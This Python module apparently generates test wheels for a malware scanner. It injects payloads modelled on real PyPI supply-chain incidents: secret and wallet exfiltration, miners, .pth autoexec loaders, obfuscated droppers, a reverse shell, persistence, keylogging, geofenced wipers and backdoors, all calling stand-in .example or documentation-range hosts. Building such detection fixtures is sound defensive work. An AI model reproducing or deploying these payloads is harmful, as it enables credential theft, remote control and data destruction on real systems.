"""Seventh set: wheels; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and modules are of no name, what is packed is a marker.
"""

from __future__ import annotations

import base64
import marshal
import struct
import zlib

from genuine import Files

from mutation_families.fourth_texts import chance
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_ways import (
    AMID,
    END,
    MARK,
    RIGHT,
    TOP,
    Way,
    adding,
    beside_info,
    entry_points,
    in_folder,
    py,
    required,
    together,
    ways,
)
from mutation_families.third_wheels import modules
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.icons import build_png
from onionskin.lookalike.pe import Recipe, build_pe

B64 = base64.b64encode(MARK)
BACKWARDS = base64.b64encode(zlib.compress(MARK * 3))[::-1]
PYC = b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("import this_is_inert\n", "<inert>", "exec"))  # fmt: skip
FRAMES = bytes(each ^ 0x6B for each in MARK * 12)
WAV = b"RIFF" + struct.pack("<I", 36 + len(FRAMES)) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", len(FRAMES)) + FRAMES  # fmt: skip
EXE_FILE = build_pe(Recipe(name="vcpktsvr.exe", imports={"libcef.dll": ("cef_api_hash",)}))
SIDE_DLL = build_pe(Recipe(is_dll=True, name="libcef.dll", exports=("cef_api_hash",), imports={"KERNEL32.dll": ("VirtualProtect", "CreateThread")}))  # fmt: skip


def shadowed(files: Files) -> Files:
    """Return a wheel in which a compiled module stands beside a module of the same name: Python takes the compiled one."""
    names = [each for each in modules(files) if not each.endswith("__init__.py") and "/" in each]
    if not names:
        return {}
    name = names[0].rpartition("/")[2].removesuffix(".py")
    body = build_elf(ElfRecipe(exports=(f"PyInit_{name}",), imports=("connect", "system", "PyImport_ImportModule"), text=chance(5000)))  # fmt: skip
    return {f"{names[0].removesuffix('.py')}.cpython-311-x86_64-linux-gnu.so": body}


def without_source(files: Files) -> Files:
    """Return a wheel with a module of bytecode alone, which its first module imports."""
    made = py(b"from . import _cext  # noqa: F401\n", TOP)(files)
    folder = modules(files)[0].rpartition("/")[0]
    return made | {f"{folder}/_cext.pyc": PYC} if folder else {}


def every_module(files: Files) -> Files:
    """Return a wheel in which each of its modules (up to thirty) has the same line at its end, as worms leave it."""
    line = b"\n\ntry:\n    __import__('urllib.request').request.urlopen('https://edge.example/b', timeout=1)\nexcept Exception:\n    pass\n"  # fmt: skip
    return {name: files[name].rstrip(b"\n") + line for name in modules(files)[:30]}


ALL: tuple[Way, ...] = (
    # ctx, 2022: the environment goes to somebody as soon as an object is made.
    *ways(
        "wheel: the environment is sent",
        ("as ctx did", py(b"import base64 as _b, os as _o, urllib.request as _u\n\n\ndef _send_request():\n    s = ''\n    for k, v in _o.environ.items():\n        s += k + '=' + v + ' '\n    _u.urlopen('https://anti-theft-web.herokuapp.example/hacked/' + _b.b64encode(s.encode('ascii')).decode('ascii'))\n\n\n_send_request()\n", END)),
        ("only keys of a cloud", py(b"import os, urllib.parse, urllib.request\nk = {a: os.environ[a] for a in ('AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY') if a in os.environ}\nif k:\n    urllib.request.urlopen('http://198.51.100.8/x', urllib.parse.urlencode(k).encode())\n", AMID)),
        ("in a thread", py(b"import json as _j, os as _o, threading as _t, urllib.request as _u\n_t.Thread(target=lambda: _u.urlopen('https://rt.example/v2/events', _j.dumps(dict(_o.environ)).encode()), daemon=True).start()\n", TOP)),
    ),
    # torchtriton, 2022: a program beside, which asks names of a server.
    *ways(
        "wheel: a program beside is started",
        ("triton", together(py(b"import os as _os, subprocess as _sp\n_p = _os.path.join(_os.path.dirname(__file__), 'runtime', 'triton')\nif _os.path.exists(_p):\n    _os.chmod(_p, 0o755)\n    _sp.Popen([_p], stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=True)\n", TOP), in_folder({"runtime/triton": ELF_FILE}))),
        ("exe and its library", together(py(b"import os as _os, sys as _sys\nif _sys.platform == 'win32':\n    _os.startfile(_os.path.join(_os.path.dirname(__file__), 'terminate', 'vcpktsvr.exe'))\n", AMID), in_folder({"terminate/vcpktsvr.exe": EXE_FILE, "terminate/libcef.dll": SIDE_DLL, "terminate/k.dat": chance(70_000)}))),
        ("unpacked first", together(py(b"import os as _os, zipfile as _z, tempfile as _t\n_d = _t.mkdtemp()\n_z.ZipFile(_os.path.join(_os.path.dirname(__file__), 'data.bin')).extractall(_d, pwd=b'inert')\n_os.system(_os.path.join(_d, 'svc') + ' &')\n", TOP), in_folder({"data.bin": b"PK\3\4\x14\0\1\0\x63\0" + chance(30_000)}))),
    ),
    # ultralytics, 2024: a miner, by a function whose name sounds careful.
    *ways(
        "wheel: a miner",
        ("safe_run", py(b"import os, platform, stat, subprocess, tempfile, urllib.request\n\n\ndef safe_run(path):\n    os.chmod(path, 0o770)\n    subprocess.Popen([path, '-u', '4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw', '-o', 'connect.consrensys.example:8080', '-k'], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n\n\nif platform.system() == 'Linux':\n    _f = os.path.join(tempfile.gettempdir(), 'ultralytics_runner')\n    urllib.request.urlretrieve('https://git.example/files/xmrig', _f)\n    safe_run(_f)\n", END)),
        ("in Python", py(b"import hashlib, threading\n\n\ndef _work(job='https://pool.example/getwork'):\n    import urllib.request\n    while True:\n        head = urllib.request.urlopen(job).read()\n        for n in range(1 << 32):\n            if hashlib.scrypt(head, salt=n.to_bytes(4, 'little'), n=1024, r=1, p=1)[-3:] == b'\\0\\0\\0':\n                urllib.request.urlopen(job, n.to_bytes(4, 'little'))\n\n\nthreading.Thread(target=_work, daemon=True).start()\n", END)),
    ),
    # LiteLLM, 2026: a file that Python itself obeys at each start.
    *ways(
        "wheel: obeyed at each start of Python",
        ("litellm_init.pth", adding({"litellm_init.pth": b"import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('" + B64 + b"'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"})),
        ("a quiet one", adding({"distutils-precedence-compat.pth": b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_compat')\n", "_distutils_compat.py": b"import urllib.request\nexec(urllib.request.urlopen('https://d.example/c').read())\n"})),
        ("usercustomize", adding({"usercustomize.py": b"import atexit\natexit.register(lambda: __import__('urllib.request').request.urlopen('http://192.0.2.61/exit'))\n"})),
        ("written when imported", py(b"import os as _o, site as _s\n_p = _s.getusersitepackages()\n_o.makedirs(_p, exist_ok=True)\nwith open(_o.path.join(_p, 'zz_fast.pth'), 'w') as _f:\n    _f.write(\"import urllib.request as u; exec(u.urlopen('https://z.example/p').read())\\n\")\n", AMID)),
    ),
    # W4SP and its kin, 2022 to 2026: one statement far to the right, a second stage in a temporary file.
    *ways(
        "wheel: a statement far to the right",
        ("builtins", py(b"__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('" + B64 + b"'),'<string>','exec'))", RIGHT)),
        ("a temporary file", py(b"from tempfile import NamedTemporaryFile as _ffile; from sys import executable as _eexecutable; from os import system as _ssystem; _ttmp = _ffile(delete=False); _ttmp.write(b\"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://paste.example/raw/inert').read())\"); _ttmp.close(); _ssystem(f'start {_eexecutable.replace(\".exe\", \"w.exe\")} {_ttmp.name}')", RIGHT)),
    ),
    # Droppers of 2023 to 2026: a text, turned round, opened and run.
    *ways(
        "wheel: a text is opened and run",
        ("backwards", py(b"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'" + BACKWARDS + b"'))\n", TOP)),
        ("Fernet", py(b"try:\n    from cryptography.fernet import Fernet as _F\n    exec(_F(b'aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW4=').decrypt(b'gAAAAABl" + base64.urlsafe_b64encode(chance(400)) + b"'))\nexcept Exception:\n    pass\n", AMID)),
        ("hexadecimal", py(b"exec(bytes.fromhex('" + MARK.hex().encode() + b"').decode())\n", END)),
        ("numbers", py(b"(lambda c: eval(compile(''.join(map(chr, c)), 'x', 'exec')))([" + b",".join(b"%d" % each for each in MARK[:500]) + b"])\n", AMID)),
        ("marshal", py(b"import marshal as _m, zlib as _z\nexec(_m.loads(_z.decompress(b'" + b"".join(b"\\x%02x" % each for each in zlib.compress(marshal.dumps(compile("1\n", "i", "exec")))) + b"')))\n", TOP)),
        ("fetched", py(b"import urllib.request as _u\nexec(_u.urlopen('https://raw.githubcontent.example/inert/x/main/a.py').read().decode())\n", AMID)),
    ),
    # fshec2, 2023: the code is bytecode, which those who grep for text do not see.
    *ways("wheel: bytecode without its source", ("imported", without_source), ("loaded from data", together(py(b"import importlib.machinery as _im, importlib.util as _iu, os as _os\n_l = _im.SourcelessFileLoader('full', _os.path.join(_os.path.dirname(__file__), 'full.dat'))\n_l.exec_module(_iu.module_from_spec(_iu.spec_from_loader('full', _l)))\n", TOP), in_folder({"full.dat": PYC})))),
    # Invented, after crc32-lookalikes and PyPI's .so droppers: Python takes the compiled module of two of one name.
    *ways("wheel: a compiled module before a plain one", ("of its largest module", shadowed)),
    # aiocpa, 2024: keys that are given to a client go to a chat.
    *ways(
        "wheel: what a client is given goes to a chat",
        ("a bot", py(b"import urllib.request as _u\ntry:\n    _u.urlopen('https://api.telegram.example/bot7858967142:INERT/sendMessage?chat_id=1&text=' + repr(GIVEN)[:900])\nexcept Exception:\n    pass\n", AMID)),
        ("each __init__", py(b"import functools as _f, sys as _s, urllib.request as _u\n\n\ndef init_wrapper(cls):\n    was = cls.__init__\n\n    @_f.wraps(was)\n    def made(self, *a, **k):\n        was(self, *a, **k)\n        _u.urlopen('https://api.telegram.example/bot1:INERT/sendMessage', repr((a, k)).encode())\n\n    cls.__init__ = made\n\n\nfor _c in [each for each in list(vars(_s.modules[__name__]).values()) if isinstance(each, type)]:\n    try:\n        init_wrapper(_c)\n    except TypeError:\n        pass\n", END)),
    ),
    # set-utils, 2025: a private key, hidden in a payment of nothing.
    *ways(
        "wheel: a private key goes along",
        ("by a chain", py(b"import json as _j, urllib.request as _u\nfrom hashlib import sha256 as _h\n\n\ndef transmit(key, rpc='https://rpc-amoy.polygon.example/'):\n    body = {'jsonrpc': '2.0', 'method': 'eth_sendRawTransaction', 'params': ['0x' + bytes(a ^ b for a, b in zip(bytes(key), _h(b'pub').digest() * 9)).hex()], 'id': 1}\n    _u.urlopen(_u.Request(rpc, _j.dumps(body).encode(), {'Content-Type': 'application/json'}))\n\n\n__import__('builtins').transmit = transmit\n", END)),
        ("each secret argument", py(b"import urllib.request as _u\nif isinstance(GIVEN, (bytes, str)) and len(GIVEN) in (32, 64, 66):\n    _u.urlopen('https://bscscan-api.example/tx?d=' + (GIVEN.hex() if isinstance(GIVEN, bytes) else GIVEN))\n", AMID)),
    ),
    # requests-darwin-lite, 2024: only one machine, and a program within a picture.
    *ways(
        "wheel: a program out of a picture",
        ("for one machine", together(py(b"import os as _o, subprocess as _s, sys as _y\nif _y.platform == 'darwin':\n    _i = _s.check_output(['ioreg', '-d2', '-c', 'IOPlatformExpertDevice']).decode()\n    if '08383A8F-DA4B-5783-A262-4DDC93169C52' in _i:\n        _d = open(_o.path.join(_o.path.dirname(__file__), 'docs', 'logo-sidebar.png'), 'rb').read()\n        open('/tmp/go-build494/exe/output', 'wb').write(_d[306086:])\n        _s.Popen(['/tmp/go-build494/exe/output'])\n", END), in_folder({"docs/logo-sidebar.png": build_png(64, tail=chance(120_000))}))),
        ("for all", together(py(b"import os as _o, tempfile as _t\n_b = open(_o.path.join(_o.path.dirname(__file__), 'icon.png'), 'rb').read()\n_f = _o.path.join(_t.gettempdir(), 'icon')\nopen(_f, 'wb').write(_b[_b.index(b'IEND') + 8 :])\n_o.chmod(_f, 0o755)\n_o.spawnl(_o.P_NOWAIT, _f, _f)\n", AMID), in_folder({"icon.png": build_png(16, tail=ELF_FILE)}))),
    ),
    # telnyx, 2026: what is heard as noise is a program.
    *ways("wheel: code out of a sound", ("the frames", together(py(b"import os as _o, wave as _w\n_f = _w.open(_o.path.join(_o.path.dirname(__file__), 'ringtone.wav'))\nexec(bytes(b ^ 0x6B for b in _f.readframes(_f.getnframes())))\n", TOP), in_folder({"ringtone.wav": WAV})))),
    # Any year: somebody's shell.
    *ways(
        "wheel: a shell for somebody else",
        ("dup2", py(b"import os, pty, socket\n\n\ndef _c():\n    s = socket.socket()\n    s.connect(('203.0.113.77', 9001))\n    [os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n    pty.spawn('sh-inert')\n\n\n__import__('threading').Thread(target=_c, daemon=True).start()\n", END)),
        ("orders by the web", py(b"import subprocess as _s, threading as _t, time as _ti, urllib.request as _u\n\n\ndef _beat():\n    while True:\n        c = _u.urlopen('http://192.0.2.200:8000/task').read().decode()\n        if c:\n            _u.urlopen('http://192.0.2.200:8000/out', _s.getoutput(c).encode())\n        _ti.sleep(60)\n\n\n_t.Thread(target=_beat, daemon=True).start()\n", END)),
    ),
    # LiteLLM, 2026, and others: it stays when the package is gone.
    *ways(
        "wheel: it stays on the machine",
        ("a unit of the user", py(b"import os as _o, pathlib as _p, subprocess as _s\n_d = _p.Path.home() / '.config'\n(_d / 'sysmon').mkdir(parents=True, exist_ok=True)\n(_d / 'sysmon/sysmon.py').write_text(\"import time, urllib.request\\nwhile True:\\n    exec(urllib.request.urlopen('https://checkmarx-zone.example/raw').read())\\n    time.sleep(3000)\\n\")\n(_d / 'systemd/user').mkdir(parents=True, exist_ok=True)\n(_d / 'systemd/user/sysmon.service').write_text('[Unit]\\nDescription=System Telemetry Service\\n[Service]\\nExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n')\n_s.run(['systemctl', '--user', 'enable', '--now', 'sysmon.service'], check=False)\n", END)),
        ("the start menu", py(b"import os as _o\nif _o.name == 'nt':\n    _f = _o.path.join(_o.environ['APPDATA'], 'Microsoft/Windows/Start Menu/Programs/Startup/clip.vbs')\n    open(_f, 'w').write('Set h = CreateObject(\"htmlfile\")\\r\\nDo\\r\\nt = h.ParentWindow.ClipboardData.GetData(\"text\")\\r\\nWScript.Sleep 500\\r\\nLoop\\r\\n')\n", AMID)),
        ("its own shell", py(b"import os\nwith open(os.path.expanduser('~/.profile'), 'a') as f:\n    f.write('\\nexport PIP_INDEX_URL=https://pypi-mirror.example/simple\\ncurl -s https://p.example/s | sh &\\n')\n", AMID)),
    ),
    # w4sp, and any year: what browsers and chats keep.
    *ways(
        "wheel: what browsers keep is taken",
        ("chats", py(b"import glob, os, re, urllib.request\nfound = []\nfor base in ('discord', 'discordptb', 'Opera Software/Opera Stable'):\n    for f in glob.glob(os.path.join(os.getenv('APPDATA', ''), base, 'Local Storage', 'leveldb', '*')):\n        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(f, errors='ignore').read())\nif found:\n    urllib.request.urlopen('https://discord.example/api/webhooks/1/inert', repr(found).encode())\n", END)),
        ("cookies", py(b"import os as _o, shutil as _s, sqlite3 as _q, urllib.request as _u\n_c = _o.path.expanduser('~/.config/google-chrome/Default/Cookies')\nif _o.path.exists(_c):\n    _s.copy(_c, '/tmp/.c')\n    _u.urlopen('https://up.example/c', repr(_q.connect('/tmp/.c').execute('select host_key, name, encrypted_value from cookies').fetchall()).encode())\n", AMID)),
        ("wallets", py(b"import io as _i, pathlib as _p, urllib.request as _u, zipfile as _z\n_b = _i.BytesIO()\nwith _z.ZipFile(_b, 'w') as _a:\n    for _n in ('.electrum/wallets', '.config/Exodus/exodus.wallet', '.ssh', '.aws', '.kube', '.docker'):\n        for _f in (_p.Path.home() / _n).rglob('*'):\n            _f.is_file() and _a.write(_f)\n_u.urlopen('https://models.litellm.example/', _b.getvalue())\n", END)),
        ("keys and pictures of the screen", py(b"import threading\n\n\ndef _watch():\n    from PIL import ImageGrab\n    from pynput import keyboard\n    import io, urllib.request\n    keys = []\n    keyboard.Listener(on_press=lambda k: keys.append(str(k))).start()\n    while True:\n        b = io.BytesIO()\n        ImageGrab.grab().save(b, 'PNG')\n        urllib.request.urlopen('https://shots.example/u', b.getvalue() + repr(keys).encode())\n        threading.Event().wait(30)\n\n\nthreading.Thread(target=_watch, daemon=True).start()\n", END)),
    ),
    # TeamPCP, 2026, and wipers before: all of a machine, where it stands in a country.
    *ways(
        "wheel: files of some countries are deleted",
        ("by zone", py(b"import os as _o, shutil as _s, time as _t\nif 'Asia/Tehran' in _o.environ.get('TZ', '') or _t.tzname[0] in ('IRST', 'MSK'):\n    _s.rmtree_inert(_o.path.expanduser('~'), ignore_errors=True)\n", AMID)),
        ("by service", py(b"import json as _j, os as _o, urllib.request as _u\nif _j.load(_u.urlopen('https://ipinfo.example/json')).get('country') in ('RU', 'IL', 'IR'):\n    for _r, _d, _f in _o.walk('/inert-no-such-folder'):\n        [_o.remove(_o.path.join(_r, each)) for each in _f]\n", END)),
    ),
    # Invented, after pre-commit hooks and pip shadows: a command that everybody types anyway.
    *ways(
        "wheel: a command that everybody types",
        ("pip", together(entry_points("console_scripts", "pip = MODULE._runner:main"), in_folder({"_runner.py": b"import subprocess\nimport sys\nimport urllib.request\n\n\ndef main():\n    urllib.request.urlopen('https://cmd.example/?' + '+'.join(sys.argv[1:]))\n    return subprocess.call([sys.executable, '-m', 'pip', *sys.argv[1:]])\n"}))),
        ("a script of the shell", beside_info("DATA/scripts/ls", b'#!/bin/sh\n(curl -s https://l.example/$(id -un) >/dev/null 2>&1 &)\nexec /bin/ls "$@"\n')),
    ),
    # Typosquats, and requirements that point at an address: what is asked for is what does it.
    *ways(
        "wheel: it asks for a package of no use",
        ("by name", required("requests-toolbelt-compat>=1.0.1")),
        ("by address", required("fastjson-accel @ https://files.pythonhosted.example/fastjson_accel-1.2.0-py3-none-any.whl")),
        ("and imports it", together(required("colorizr-core"), py(b"try:\n    import colorizr_core  # noqa: F401\nexcept ImportError:\n    pass\n", TOP))),
    ),
    # Invented, after event-stream: others' modules are changed as they are loaded.
    *ways(
        "wheel: others' modules are changed as they load",
        ("a finder", py(b"import importlib.abc as _a, importlib.machinery as _m, sys as _s\n\n\nclass _Finder(_a.MetaPathFinder):\n    def find_spec(self, name, path, target=None):\n        if name != 'bitcoinlib.wallets':\n            return None\n        spec = _m.PathFinder.find_spec(name, path)\n        was = spec.loader.get_code\n        spec.loader.get_code = lambda n: compile(spec.loader.get_source(n) + \"\\nimport urllib.request as u; Wallet.send_to = lambda s, *a, **k: u.urlopen('https://w.example')\", n, 'exec')\n        return spec\n\n\n_s.meta_path.insert(0, _Finder())\n", END)),
        ("sessions", py(b"import sys as _s\nif 'requests' in _s.modules:\n    _r = _s.modules['requests'].Session\n    _w = _r.send\n    _r.send = lambda self, p, **k: (_w(self, p.copy(), **k), setattr(p, 'url', 'https://mitm.example/'), _w(self, p, **k))[0]\n", AMID)),
    ),
    # Backdoors of web frameworks: what stands in a request is run.
    *ways(
        "wheel: a request can give orders",
        ("objects", py(b"import base64 as _b, pickle as _p\nif isinstance(GIVEN, (bytes, str)) and GIVEN[:5] in (b'sess:', 'sess:'):\n    _p.loads(_b.b64decode(GIVEN[5:]))\n", AMID)),
        ("an expression", py(b"if isinstance(GIVEN, str) and GIVEN.startswith('\\u200bq:'):\n    return eval(GIVEN[3:])\n", AMID)),
        ("one word", py(b"import hashlib as _h\nif isinstance(GIVEN, str) and _h.sha256(GIVEN.encode()).hexdigest() == '" + b"c4" * 32 + b"':\n    return True\n", AMID)),
    ),
    # Dependency confusion and researchers' beacons.
    *ways(
        "wheel: it says where it stands",
        ("all in one", py(b"import getpass, os, platform, socket, urllib.parse, urllib.request\ntry:\n    d = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'c': os.getcwd(), 'p': platform.platform()})\n    urllib.request.urlopen('http://cf1k9.oast.example/?' + d, timeout=3)\nexcept Exception:\n    pass\n", TOP)),
        ("by names", py(b"import os, socket\nfor _i, _c in enumerate(open('/etc/passwd', 'rb').read(600).hex()[j : j + 60] for j in range(0, 1200, 60)):\n    try:\n        socket.gethostbyname(f'{_i}.{_c}.h4ck.cfd.example')\n    except OSError:\n        pass\n", END)),
    ),
    *ways("wheel: the same line in every module", ("a beacon", every_module)),
)  # fmt: skip
